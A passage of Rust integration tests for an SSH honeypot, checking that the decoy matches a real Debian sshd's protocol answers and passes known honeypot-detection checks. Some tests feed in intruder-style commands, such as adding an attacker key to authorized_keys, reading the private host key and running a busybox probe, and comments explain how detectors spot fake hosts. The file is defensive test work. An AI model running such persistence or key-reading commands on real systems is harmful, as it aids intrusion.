        for (i, w) in [(2, 2), (3, 2), (4, 3), (5, 3), (6, 4), (7, 4)] {
            assert_eq!(lists[i], wire[w], "{profile} list {i}");
        }
    }

    let keyscan = |addr: SocketAddr| -> Vec<String> {
        let o = Command::new("ssh-keyscan")
            .args([
                "-p",
                &addr.port().to_string(),
                "-t",
                "rsa,ecdsa,ed25519",
                "127.0.0.1",
            ])
            .output()
            .expect("ssh-keyscan is installed");
        let mut keys: Vec<String> = String::from_utf8(o.stdout)
            .unwrap()
            .lines()
            .filter(|l| !l.starts_with('#'))
            .map(|l| {
                l.split_whitespace()
                    .skip(1)
                    .take(2)
                    .collect::<Vec<_>>()
                    .join(" ")
            })
            .collect();
        keys.sort();
        keys
    };
    let before = keyscan(u);
    assert_eq!(before.len(), 3, "{before:?}");
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/ssh_host_keys");
    for t in ["rsa", "ecdsa", "ed25519"] {
        let public =
            std::fs::read_to_string(fixtures.join(format!("ssh_host_{t}_key.pub"))).unwrap();
        let public: String = public
            .split_whitespace()
            .take(2)
            .collect::<Vec<_>>()
            .join(" ");
        assert!(before.contains(&public), "{t}: {before:?}");
    }
    assert_eq!(d.stop().code(), Some(0));
    let d = sensor.start();
    assert_eq!(keyscan(d.addr("ubuntu")), before);
}

#[test]
fn host_keys_are_made_once_private_and_served() {
    use std::os::unix::fs::PermissionsExt;
    // No fixture keys: the daemon makes its own on first start.
    let sensor = Sensor::new().decoy("ssh", SSH);
    let d = sensor.start();
    let dir = sensor.data().join("ssh").join("ssh");
    let o = Command::new("ssh-keyscan")
        .args([
            "-p",
            &d.addr("ssh").port().to_string(),
            "-t",
            "rsa,ecdsa,ed25519",
            "127.0.0.1",
        ])
        .output()
        .unwrap();
    let scanned = String::from_utf8(o.stdout).unwrap();
    for t in ["rsa", "ecdsa", "ed25519"] {
        let key = dir.join(format!("ssh_host_{t}_key"));
        assert_eq!(
            std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
            0o600
        );
        let public = std::fs::read_to_string(
            key.with_extension("pub")
                .with_file_name(format!("ssh_host_{t}_key.pub")),
        )
        .unwrap();
        let blob = public.split_whitespace().nth(1).unwrap();
        assert!(scanned.contains(blob), "{t} is the key served");
    }
    let rsa = std::fs::read_to_string(dir.join("ssh_host_rsa_key.pub")).unwrap();
    let listed = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(dir.join("ssh_host_rsa_key.pub"))
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&listed.stdout).starts_with("3072 "),
        "{rsa}"
    );
}

/// The machine's own OpenSSH sshd (Debian 12's 9.2p1) on a loopback port, with fresh host
/// keys of the three types and `extra` appended to its config. Ended by PID when dropped,
/// whether the test passed or failed.
struct RealSshd {
    dir: tempfile::TempDir,
    addr: SocketAddr,
    _process: Ended,
}

fn real_sshd(extra: &str) -> RealSshd {
    let sshd = Path::new("/usr/sbin/sshd");
    assert!(
        sshd.exists(),
        "the real sshd is needed (scripts/test installs openssh-server)"
    );
    let dir = tempfile::tempdir().unwrap();
    for t in ["rsa", "ecdsa", "ed25519"] {
        let bits: &[&str] = if t == "rsa" { &["-b", "3072"] } else { &[] };
        let ok = Command::new("ssh-keygen")
            .args(["-q", "-t", t, "-N", ""])
            .args(bits)
            .arg("-f")
            .arg(dir.path().join(format!("ssh_host_{t}_key")))
            .status()
            .unwrap();
        assert!(ok.success());
    }
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut config = format!(
        "Port {port}\nListenAddress 127.0.0.1\nUsePAM no\nKbdInteractiveAuthentication no\nPidFile {}/sshd.pid\n",
        dir.path().display()
    );
    for t in ["rsa", "ecdsa", "ed25519"] {
        config.push_str(&format!(
            "HostKey {}/ssh_host_{t}_key\n",
            dir.path().display()
        ));
    }
    config.push_str(extra);
    std::fs::write(dir.path().join("sshd_config"), config).unwrap();
    if nix_is_root() {
        // sshd refuses to start as root without its privilege separation folder.
        let _ = std::fs::create_dir_all("/run/sshd");
    }
    let process = Ended(
        Command::new(sshd)
            .args(["-D", "-e", "-f"])
            .arg(dir.path().join("sshd_config"))
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let addr: SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    wait_for("the real sshd", Duration::from_secs(20), || {
        TcpStream::connect(addr).ok()
    });
    RealSshd {
        dir,
        addr,
        _process: process,
    }
}

#[test]
fn the_debian_profile_is_what_the_real_debian_sshd_sends() {
    let real = real_sshd("");
    let (dir, addr, port) = (&real.dir, real.addr, real.addr.port());
    let (banner, lists) = server_hello(addr);

    let sensor = ssh_sensor(&SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"));
    let d = sensor.start();
    let (ours, our_lists) = server_hello(d.addr("ssh"));

    let profile = Profile::Openssh92Debian;
    let (build, _) = build_and_wire_lists(profile);
    // The real build sends exactly the lists the profile keeps for it...
    assert_eq!(lists[0], build[0], "kex");
    assert_eq!(lists[1], build[1], "host keys");
    assert_eq!(lists[2], build[2], "ciphers");
    assert_eq!(lists[4], build[3], "macs");
    assert_eq!(lists[6], build[4], "compression");
    // ...and the decoy sends those lists minus exactly the documented gap.
    for (i, b) in [(0, 0), (1, 1), (2, 2), (4, 3), (6, 4)] {
        let expected: Vec<String> = build[b]
            .iter()
            .filter(|n| !profile.data().not_offered.contains(&n.as_str()))
            .cloned()
            .collect();
        assert_eq!(our_lists[i], expected);
    }
    let version = |b: &str| b.rsplit_once("+deb12u").map(|(v, _)| v.to_string());
    assert_eq!(version(&banner), version(&ours), "{banner} / {ours}");

    // Both answer a line that is not an identification, and SSH-1, in the same words, and
    // both read an identification as long as OpenSSH allows, and refuse one byte more.
    let long = |n: usize| format!("SSH-2.0-{}\r\n", "x".repeat(n - 8)).into_bytes();
    let lines = [
        b"GET / HTTP/1.1\r\n".to_vec(),
        b"SSH-1.5-Test\r\n".to_vec(),
        b"SSH-1337\r\n".to_vec(),
        b"SSH-2.0-a\rb\r\n".to_vec(),
        b"SSH-2.0-a\0b\r\n".to_vec(),
        b"SSH-2.0-a\r\r\n".to_vec(),
        long(300),
        long(8192),
        long(8193),
    ];
    let mut kex = 0;
    for line in &lines {
        let real = answer_to_identification(addr, line);
        kex += usize::from(real == "KEXINIT");
        assert_eq!(
            real,
            answer_to_identification(d.addr("ssh"), line),
            "{}",
            line[..line.len().min(40)].escape_ascii()
        );
    }
    assert_eq!(kex, 3, "the real sshd takes three of the lines");

    // Keyboard-interactive, which the stock build leaves off, is refused the same way.
    let real_kbd = paramiko(&["kbd", "127.0.0.1", &port.to_string(), "nobody"]);
    let our_kbd = paramiko(&[
        "kbd",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "nobody",
    ]);
    assert_eq!(real_kbd, our_kbd);

    // A request to change the password, then an ordinary attempt: two plain failures, every
    // method kept.
    let change = |port: u16| {
        paramiko(&[
            "change",
            "127.0.0.1",
            &port.to_string(),
            "nobody",
            "Zq-old",
            "Zq-new",
            "Zq-next",
        ])
    };
    let real_change = change(port);
    assert_eq!(real_change[0]["message"], "Authentication failed.");
    assert_eq!(real_change, change(d.addr("ssh").port()));

    // Seven keys offered: the same server-sig-algs list (every algorithm the build verifies,
    // not only its host key types), the same failures, then the same disconnect in place of
    // the sixth.
    let keys = keygen(dir.path(), 7);
    let offer = |a: SocketAddr| {
        stderr(&offer_keys(a, "nobody", &keys))
            .lines()
            .filter(|l| {
                l.starts_with("debug1: kex_input_ext_info: ")
                    || l.starts_with("debug1: Offering public key:")
                    || l.starts_with("debug1: Authentications that can continue")
                    || l.starts_with("Received disconnect")
            })
            .map(|l| l.replace(&a.port().to_string(), "PORT"))
            .collect::<Vec<_>>()
    };
    let real_offers = offer(addr);
    assert_eq!(real_offers.len(), 15, "{real_offers:#?}");
    assert_eq!(real_offers, offer(d.addr("ssh")));

    // Host-bound queries, as OpenSSH sends every key once the extension is listed: naming the
    // host key, a plain failure; naming another key, the connection ends unanswered.
    let hostbound = |a: SocketAddr| {
        paramiko(&[
            "hostbound",
            "127.0.0.1",
            &a.port().to_string(),
            "nobody",
            keys[0].0.to_str().unwrap(),
        ])
    };
    let real_hostbound = hostbound(addr);
    assert_eq!(
        real_hostbound[0]["extensions"]["publickey-hostbound@openssh.com"], "0",
        "{real_hostbound:#?}"
    );
    assert_eq!(
        real_hostbound[1]["allowed"],
        serde_json::json!(["publickey", "password"]),
        "{real_hostbound:#?}"
    );
    assert_eq!(real_hostbound[2]["active"], false, "{real_hostbound:#?}");
    assert_eq!(real_hostbound, hostbound(d.addr("ssh")));
}

#[test]
fn messages_the_debian_build_does_not_expect_get_the_real_debian_sshds_answers() {
    // Logged in with a key on both, as the user running the test (the only one a test sshd
    // can let in).
    let keys = tempfile::tempdir().unwrap();
    let (key, _) = keygen(keys.path(), 1).remove(0);
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    std::fs::write(keys.path().join("authorized_keys"), &public).unwrap();
    let user = String::from_utf8(Command::new("id").arg("-un").output().unwrap().stdout).unwrap();
    let user = user.trim();
    let real = real_sshd(&format!(
        "AuthorizedKeysFile {}/authorized_keys\nStrictModes no\n",
        keys.path().display()
    ));
    let sensor = ssh_sensor(&format!(
        "{}accept:\n  - user: {user}\n    key: {}\n",
        SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"),
        public.trim()
    ));
    let d = sensor.start();

    // Types 0 and 192 and above refused outright before 9.5, whatever the state; the rest
    // of what a state has no use for answered UNIMPLEMENTED; a request for another service
    // ends the connection.
    let mut probes = Vec::new();
    for (phase, types) in [
        (
            "kex",
            &[
                "0",
                "7",
                "50",
                "61",
                "80",
                "90",
                "128",
                "192",
                "200",
                "255",
                "5:ssh-connection",
            ][..],
        ),
        (
            "auth",
            &["7", "61", "80", "90", "128", "200", "5:ssh-connection"][..],
        ),
        (
            "session-key",
            &["0", "5:ssh-userauth", "7", "50", "60", "128", "192", "200"][..],
        ),
    ] {
        probes.extend(types.iter().map(|t| format!("{phase}/{t}")));
    }
    let probes: Vec<&str> = probes.iter().map(String::as_str).collect();
    let secret = key.to_str().unwrap();
    let theirs = unexpected_messages(real.addr, user, secret, &probes);
    let ours = unexpected_messages(d.addr("ssh"), user, secret, &probes);
    for (t, o) in theirs.iter().zip(&ours) {
        assert_eq!(t, o, "the real sshd / the decoy");
    }
    let refused = theirs.iter().filter(|t| !t["disconnect"].is_null()).count();
    let unimplemented = theirs
        .iter()
        .filter(|t| t["unimplemented"].is_u64())
        .count();
    assert_eq!((refused, unimplemented), (10, 16), "{theirs:#?}");

    // Each one the real sshd refused, the decoy recorded as a connection that broke the
    // protocol; every login was an accepted key.
    let events = sensor.events();
    let (conns, broken) = connections_and_protocol_errors(&events);
    assert_eq!(conns.len(), probes.len(), "{events:#?}");
    assert_eq!(broken, refused, "{conns:#?}");
}

/// The packets a server sends, after its KEXINIT, to a client that offers one of each
/// algorithm (curve25519, ssh-ed25519, chacha20-poly1305, with `ext-info-c` when `ext_info_c`)
/// and sends its KEX_ECDH_INIT but never its NEWKEYS: the plaintext packets by type, then
/// `encrypted` when more bytes follow them, then how the server ended (`waits` after 2 s).
fn flight_before_client_newkeys(addr: SocketAddr, ext_info_c: bool) -> Vec<String> {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let kex = if ext_info_c {
        "curve25519-sha256,ext-info-c"
    } else {
        "curve25519-sha256"
    };
    let mut kexinit = vec![20u8];
    kexinit.extend_from_slice(&[7; 16]);
    for list in [
        kex,
        "ssh-ed25519",
        "chacha20-poly1305@openssh.com",
        "chacha20-poly1305@openssh.com",
        "hmac-sha2-256",
        "hmac-sha2-256",
        "none",
        "none",
        "",
        "",
    ] {
        kexinit.extend_from_slice(&(list.len() as u32).to_be_bytes());
        kexinit.extend_from_slice(list.as_bytes());
    }
    kexinit.extend_from_slice(&[0, 0, 0, 0, 0]);
    // RFC 7748's public key for Alice: of full order, so both servers answer it.
    let alice = "8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a";
    let mut init = vec![30u8, 0, 0, 0, 32];
    init.extend((0..32).map(|i| u8::from_str_radix(&alice[2 * i..2 * i + 2], 16).unwrap()));
    let framed = |payload: &[u8]| {
        let mut padding = 8 - (5 + payload.len()) % 8;
        if padding < 4 {
            padding += 8;
        }
        plain_packet(payload, padding, padding as u8)
    };
    let mut hello = b"SSH-2.0-OpenSSH_9.2p1\r\n".to_vec();
    hello.extend_from_slice(&framed(&kexinit));
    hello.extend_from_slice(&framed(&init));
    s.write_all(&hello).unwrap();
    let mut got = Vec::new();
    let mut buf = [0; 4096];
    let end = loop {
        match s.read(&mut buf) {
            Ok(0) => break "closed",
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                break "waits";
            }
            Err(_) => break "closed",
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    };
    let banner_end = got.windows(2).position(|w| w == b"\r\n").unwrap() + 2;
    let mut rest = &got[banner_end..];
    let mut seen = Vec::new();
    // Plaintext until NEWKEYS; whatever follows it is under the new keys.
    while rest.len() >= 6 && seen.last().map(String::as_str) != Some("NEWKEYS") {
        let length = u32::from_be_bytes(rest[..4].try_into().unwrap()) as usize;
        seen.push(match rest[5] {
            20 => "KEXINIT".to_string(),
            21 => "NEWKEYS".to_string(),
            31 => "KEX_ECDH_REPLY".to_string(),
            t => format!("type {t}"),
        });
        rest = &rest[(4 + length).min(rest.len())..];
    }
    if !rest.is_empty() {
        seen.push("encrypted".to_string());
    }
    seen.push(end.to_string());
    seen
}

#[test]
fn ext_info_goes_out_behind_newkeys_before_the_clients_newkeys_as_the_real_debian_sshd_sends_it() {
    // sshd's kex_send_newkeys switches its output to the new keys and sends EXT_INFO at once
    // to a client that listed ext-info-c: a client sees it in the same flight as NEWKEYS.
    let real = real_sshd("");
    let sensor = ssh_sensor(&SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"));
    let d = sensor.start();
    for ext_info_c in [true, false] {
        let theirs = flight_before_client_newkeys(real.addr, ext_info_c);
        let ours = flight_before_client_newkeys(d.addr("ssh"), ext_info_c);
        assert_eq!(theirs, ours, "ext-info-c: {ext_info_c}");
        assert_eq!(
            theirs.contains(&"encrypted".to_string()),
            ext_info_c,
            "{theirs:?}"
        );
    }
    // The Ubuntu profile sends it the same way (9.6p1's kex_send_newkeys is unchanged).
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let ours = flight_before_client_newkeys(d.addr("ssh"), true);
    assert_eq!(
        ours,
        ["KEXINIT", "KEX_ECDH_REPLY", "NEWKEYS", "encrypted", "waits"],
        "{ours:?}"
    );
}

/// What a server says after its banner to a client whose first line is `line`: the text line
/// it answers with, `KEXINIT` when it starts the key exchange, or `closed`.
fn answer_to_identification(addr: SocketAddr, line: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let _ = s.write_all(line);
    let mut got = Vec::new();
    let mut buf = [0; 4096];
    loop {
        let banner_end = got.windows(2).position(|w| w == b"\r\n").map(|i| i + 2);
        if let Some(after) = banner_end.map(|i| &got[i..]) {
            if after.len() >= 6 && after[5] == 20 {
                return "KEXINIT".into();
            }
            if let Some(end) = after.windows(2).position(|w| w == b"\r\n") {
                return String::from_utf8_lossy(&after[..end]).into_owned();
            }
        }
        match s.read(&mut buf) {
            Ok(0) | Err(_) => return "closed".into(),
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
}

/// A plaintext packet as RFC 4253 frames it, with `padding` zero bytes of padding and its
/// padding length byte set to `padding_byte` (normally `padding`).
fn plain_packet(payload: &[u8], padding: usize, padding_byte: u8) -> Vec<u8> {
    let length = (1 + payload.len() + padding) as u32;
    let mut p = length.to_be_bytes().to_vec();
    p.push(padding_byte);
    p.extend_from_slice(payload);
    p.extend(std::iter::repeat_n(0, padding));
    p
}

/// What a server sends after its KEXINIT to a client that identifies itself and then sends
/// `packet` instead of its own KEXINIT: each packet (a DISCONNECT with its words), then
/// `closed`, or `no answer` when the server waits on for 3 s.
fn answer_to_packet(addr: SocketAddr, packet: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let mut hello = b"SSH-2.0-OpenSSH_9.2p1\r\n".to_vec();
    hello.extend_from_slice(packet);
    let _ = s.write_all(&hello);
    let mut got = Vec::new();
    let mut buf = [0; 4096];
    let end = loop {
        match s.read(&mut buf) {
            Ok(0) => break "closed",
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break "no answer",
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => break "no answer",
            Err(_) => break "closed",
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    };
    let banner_end = got.windows(2).position(|w| w == b"\r\n").unwrap() + 2;
    let mut rest = &got[banner_end..];
    let mut seen = Vec::new();
    while rest.len() >= 5 {
        let length = u32::from_be_bytes(rest[..4].try_into().unwrap()) as usize;
        let padding = rest[4] as usize;
        let payload = &rest[5..4 + length - padding];
        rest = &rest[4 + length..];
        seen.push(match payload[0] {
            20 => "KEXINIT".to_string(),
            1 => {
                let code = u32::from_be_bytes(payload[1..5].try_into().unwrap());
                let n = u32::from_be_bytes(payload[5..9].try_into().unwrap()) as usize;
                format!(
                    "DISCONNECT {code} {}",
                    String::from_utf8_lossy(&payload[9..9 + n])
                )
            }
            t => format!("type {t}"),
        });
    }
    seen.push(end.to_string());
    seen.join(", ")
}

#[test]
fn malformed_packets_get_the_real_debian_sshds_answers() {
    let real = real_sshd("");
    let sensor = ssh_sensor(&SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"));
    let d = sensor.start();
    let ignore = [2, b'x', b'x', b'x', b'x', b'x', b'x'];
    let mut too_long = (256 * 1024 + 8u32).to_be_bytes().to_vec();
    too_long.extend_from_slice(&[0; 64]);
    let packets: [(&str, Vec<u8>); 11] = [
        ("no payload, 9 bytes", plain_packet(&[], 4, 4)),
        ("no payload, 16 bytes", plain_packet(&[], 11, 11)),
        ("padding of 2", plain_packet(&[2; 9], 2, 2)),
        ("padding past the end", plain_packet(&ignore, 4, 200)),
        ("length 4", vec![0, 0, 0, 4, 4, 0, 0, 0]),
        ("length above 256 KiB", too_long),
        ("17 bytes", plain_packet(&ignore[..6], 6, 6)),
        ("type 200", plain_packet(&[200, 1, 2, 3, 4, 5, 6], 4, 4)),
        ("type 0", plain_packet(&[0, 1, 2, 3, 4, 5, 6], 4, 4)),
        (
            "a service request",
            plain_packet(b"\x05\0\0\0\x0cssh-userauth", 6, 6),
        ),
        ("garbage", vec![0xff; 64]),
    ];
    for (what, packet) in &packets {
        let theirs = answer_to_packet(real.addr, packet);
        assert!(theirs.starts_with("KEXINIT, "), "{what}: {theirs}");
        assert!(!theirs.ends_with("no answer"), "{what}: {theirs}");
        assert_eq!(theirs, answer_to_packet(d.addr("ssh"), packet), "{what}");
    }
    assert_eq!(
        answer_to_packet(d.addr("ssh"), &packets[2].1),
        "KEXINIT, DISCONNECT 2 Corrupted padlen 2 on input., closed"
    );

    // Every one ended the connection, and each is recorded.
    let events = sensor.events();
    let (conns, _) = connections_and_protocol_errors(&events);
    assert_eq!(conns.len(), packets.len() + 1, "{events:#?}");
}

#[test]
fn encrypted_packets_of_a_bad_length_get_the_real_debian_sshds_answers() {
    // After key exchange: a length that does not fill whole 16-byte blocks (the length field
    // counts, except under an EtM MAC or with AES-GCM, where it is sent in the clear) ends the
    // connection; a length that does is read, here as an IGNORE of zeros.
    let real = real_sshd("");
    let sensor = ssh_sensor(&SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"));
    let d = sensor.start();
    for (cipher, mac, lengths) in [
        ("aes128-ctr", "hmac-sha2-256", ["28", "20", "36", "50"]),
        (
            "aes256-ctr",
            "hmac-sha2-256-etm@openssh.com",
            ["32", "20", "28", "40"],
        ),
        (
            "aes128-gcm@openssh.com",
            "hmac-sha2-256",
            ["32", "20", "28", "36"],
        ),
    ] {
        let ask = |addr: SocketAddr| {
            let mut args = vec![
                "badlength".to_string(),
                "127.0.0.1".into(),
                addr.port().to_string(),
                cipher.into(),
                mac.into(),
            ];
            args.extend(lengths.iter().map(|l| l.to_string()));
            paramiko(&args.iter().map(String::as_str).collect::<Vec<_>>())
        };
        let (theirs, ours) = (ask(real.addr), ask(d.addr("ssh")));
        assert_eq!(theirs.len(), lengths.len(), "{theirs:?}");
        for (t, o) in theirs.iter().zip(&ours) {
            assert_eq!(t["cipher"], cipher, "{t}");
            assert_eq!(t, o, "the real sshd / the decoy");
        }
        // The first length of each fills whole blocks, the others do not.
        let up: Vec<bool> = theirs.iter().map(|t| t["active"] == true).collect();
        assert_eq!(up, [true, false, false, false], "{theirs:?}");
    }
}

fn nix_is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .map(|o| o.stdout.starts_with(b"0\n"))
        .unwrap_or(false)
}

#[test]
fn the_fake_hosts_figures_pass_the_checks_honeypot_detectors_run_after_login() {
    // Detectors log in and look for a dead host: `which ls` printing nothing, a load of
    // 0.00 everywhere, `free` the same twice, processes that started on a fixed date.
    let sensor = ssh_sensor(&format!(
        "{SSH}accept:\n  - user: deploy\n    password: \"Zq-Summer-2024\"\n"
    ));
    let d = sensor.start();
    let exec = |cmd: &str| {
        sshpass(
            d.addr("ssh"),
            "deploy",
            "Zq-Summer-2024",
            &["-o", "PubkeyAuthentication=no"],
            Some(cmd),
        )
    };
    let o = exec("which ls; uptime; free; free; ps aux; nproc; grep -c name /proc/cpuinfo");
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = String::from_utf8(o.stdout).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "/usr/bin/ls");
    let (up, load) = lines[1].split_once("load average: ").expect(lines[1]);
    let load: Vec<f64> = load.split(", ").map(|v| v.parse().unwrap()).collect();
    assert!(load.iter().any(|v| *v > 0.0), "{}", lines[1]);
    // An exec request has no terminal, so no utmp entry: `uptime` counts no user.
    assert!(up.contains(" 0 user, "), "{up}");
    assert!(lines[2].trim_start().starts_with("total"), "{out}");
    let (first, second) = (lines[3], lines[6]);
    assert!(
        first.starts_with("Mem:") && second.starts_with("Mem:"),
        "{out}"
    );
    assert_ne!(first, second, "memory in use moves between calls");
    // The processor count agrees between nproc and /proc/cpuinfo, through grep.
    assert_eq!(lines[lines.len() - 2..], ["2", "2"], "{out}");
    // Services started at boot: within the uptime `uptime` gives, never in the future.
    let init = lines.iter().find(|l| l.ends_with(" /sbin/init")).unwrap();
    let start = init.split_whitespace().nth(8).unwrap();
    let days_up: u64 = up
        .split_once(" up ")
        .and_then(|(_, r)| r.split_once(" day"))
        .map_or(0, |(n, _)| n.trim().parse().unwrap());
    if days_up == 0 {
        assert!(start.contains(':'), "{init} / {up}");
    } else {
        assert!(start.len() == 5 && !start.contains(':'), "{init} / {up}");
    }

    // With a terminal the session is in utmp: `w` and `who` show it, from where it came.
    let shell = paramiko(&[
        "shell",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "deploy",
        "Zq-Summer-2024",
        "w",
        "who",
    ]);
    let out = shell[0]["output"].as_str().unwrap();
    assert!(out.contains(" 1 user,  load average: "), "{out}");
    assert!(
        out.contains("\r\ndeploy   pts/0    127.0.0.1        "),
        "{out}"
    );
    assert!(out.contains(" (127.0.0.1)\r\n"), "{out}");

    // The client on the host names the build the server's banner names (a mismatch is a
    // known honeypot check), and a path that is not there fails as exec fails, not as an
    // unknown command: bots probe with `/bin/busybox TAG`.
    let o = sshpass(
        d.addr("ssh"),
        "deploy",
        "Zq-Summer-2024",
        &["-v", "-o", "PubkeyAuthentication=no"],
        Some("ssh -V; /bin/busybox ECCHI; echo $?; /usr/bin/whoami"),
    );
    let err = stderr(&o);
    let banner = err
        .lines()
        .find_map(|l| l.split_once("remote software version ").map(|(_, v)| v))
        .expect("ssh -v names the server's software");
    // `ssh -v` begins with its own version; the host's comes last.
    let version = err
        .lines()
        .rev()
        .find(|l| l.starts_with("OpenSSH_") && l.contains(", OpenSSL "))
        .expect("ssh -V on the host");
    assert_eq!(version.split_once(", ").unwrap().0, banner, "{err}");
    assert!(
        err.contains("\nbash: line 1: /bin/busybox: No such file or directory\n"),
        "{err}"
    );
    assert_eq!(String::from_utf8(o.stdout).unwrap(), "127\ndeploy\n");

    // /etc/ssh holds the public keys the server presents (an intruder compares them with
    // known_hosts) and an sshd_config with the port it listens on; the private keys are
    // root's.
    let port = d.addr("ssh").port().to_string();
    let scan = Command::new("ssh-keyscan")
        .args(["-p", &port, "-t", "ed25519", "127.0.0.1"])
        .output()
        .expect("ssh-keyscan is installed");
    let scanned = String::from_utf8(scan.stdout).unwrap();
    let presented: Vec<&str> = scanned
        .lines()
        .find(|l| !l.starts_with('#'))
        .expect("ssh-keyscan reads the key")
        .split_whitespace()
        .skip(1)
        .collect();
    let o = exec(
        "cat /etc/ssh/ssh_host_ed25519_key.pub; grep ^Port /etc/ssh/sshd_config; hostname; cat /etc/ssh/ssh_host_ed25519_key",
    );
    let out = String::from_utf8(o.stdout.clone()).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    let on_host: Vec<&str> = lines[0].split_whitespace().collect();
    assert_eq!(on_host[..2], presented[..], "{out}");
    assert_eq!(lines.len(), 3, "{out}");
    assert_eq!(on_host[2], format!("root@{}", lines[2]), "{out}");
    assert_eq!(lines[1], format!("Port {port}"));
    assert_eq!(
        stderr(&o),
        "cat: /etc/ssh/ssh_host_ed25519_key: Permission denied\n"
    );

    // One address everywhere the host shows its network.
    let o =
        exec("hostname -I; ip -br a show ens3; ip r | grep ^default; date +%s; ss -tn | tail -1");
    let out = String::from_utf8(o.stdout).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 5, "{out}");
    let address = lines[0].trim_end();
    assert!(lines[1].contains(&format!(" {address}/24 ")), "{out}");
    let gateway = format!("{}.1", address.rsplit_once('.').unwrap().0);
    assert_eq!(
        lines[2],
        format!("default via {gateway} dev ens3 proto dhcp src {address} metric 100 ")
    );
    let clock: u64 = lines[3].parse().unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    assert!(clock.abs_diff(now) < 60, "{clock} / {now}");
    // ss lists the session itself: from the client, to the sshd's port.
    let session: Vec<&str> = lines[4].split_whitespace().collect();
    assert_eq!(session[0], "ESTAB", "{out}");
    assert_eq!(session[3], format!("{address}:{port}"), "{out}");
    assert!(session[4].starts_with("127.0.0.1:"), "{out}");
    // The SSH_CONNECTION sshd would set names the same two ends.
    let o = exec("echo $SSH_CONNECTION; echo $PATH");
    let out = String::from_utf8(o.stdout).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    let ends: Vec<&str> = lines[0].split(' ').collect();
    assert_eq!(ends[0], "127.0.0.1", "{out}");
    assert_eq!(ends[2..], [address, port.as_str()], "{out}");
    assert_eq!(
        lines[1],
        "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin"
    );

    // What an intruder writes reads back within the session, and only there.
    let o = exec(
        "mkdir -p .ssh && echo 'ssh-ed25519 AAAA intruder' >> .ssh/authorized_keys && chmod -R go= .ssh; cat ~/.ssh/authorized_keys; echo x > /etc/x",
    );
    assert_eq!(stderr(&o), "bash: line 1: /etc/x: Permission denied\n");
    assert_eq!(
        String::from_utf8(o.stdout).unwrap(),
        "ssh-ed25519 AAAA intruder\n"
    );
    let o = exec("cat .ssh/authorized_keys");
    assert_eq!(
        o.status.code(),
        Some(1),
        "a new session starts from the install"
    );
}

#[test]
fn a_sleep_in_the_fake_shell_holds_the_answer_back_as_long_as_it_asks() {
    // A timing check: a fake shell that answers `sleep` at once gives itself away.
    let sensor = accepting_sensor("openssh-9.6p1-ubuntu");
    let d = sensor.start();
    let login = ["-o", "PubkeyAuthentication=no"];
    let started = Instant::now();
    let o = sshpass(
        d.addr("ssh"),
        "deploy",
        "Zq-Summer-2024",
        &login,
        Some("sleep 1 0.5; echo woke"),
    );
    let took = started.elapsed();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(String::from_utf8(o.stdout).unwrap(), "woke\n");
    assert!(
        took >= Duration::from_millis(1500),
        "the answer came after {took:?}, before the 1.5 s the command slept"
    );

    // The same in an interactive shell: the output and the next prompt wait for the sleep.
    let started = Instant::now();
    let shell = paramiko(&[
        "shell",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "deploy",
        "Zq-Summer-2024",
        "sleep 2.5 && echo woke",
    ]);
    let took = started.elapsed();
    let out = shell[0]["output"].as_str().unwrap();
    assert!(out.contains("echo woke\r\nwoke\r\n"), "{out}");
    assert!(
        took >= Duration::from_millis(2500),
        "the shell session ended after {took:?}, before the 2.5 s its command slept"
    );
}

#[test]
fn sudo_asks_for_the_password_with_the_echo_off_and_each_one_typed_is_stored_hashed() {
    // An intruder's first move on a login is often `sudo -i`: sudo asks for the password
    // before it refuses a user who is not in sudoers, and what is typed there is a guess at
    // the user's password, worth keeping (as a keyed hash, like login passwords).
    let sensor = accepting_sensor("openssh-9.6p1-ubuntu");
    let d = sensor.start();
    let started = Instant::now();
    let shell = paramiko(&[
        "shell",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "deploy",
        "Zq-Summer-2024",
        "sudo -i",
        "wrong-guess",
        "Zq-Summer-2024",
    ]);
